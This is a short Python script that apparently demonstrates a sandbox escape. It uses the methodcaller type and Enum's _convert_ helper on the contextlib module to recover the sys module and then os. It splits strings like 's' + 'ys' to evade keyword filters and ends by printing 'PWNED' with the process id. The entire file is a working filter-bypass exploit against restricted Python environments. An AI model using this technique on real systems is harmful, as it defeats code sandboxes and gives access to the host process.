import enum, operator, contextlib
class MyE(enum.Enum):
    pass
MC = type(operator.methodcaller("upper"))
target = "s" + "ys"
C = MC("_conv" + "ert_", "Zz", "__main__", lambda n: n == target, source=contextlib)(MyE)
s = {x.name: x.value for x in C}[target]
print("PW" + "NED: sys via methodcaller type; modules", len(s.modules), "pid", s.modules["o" + "s"].getpid())
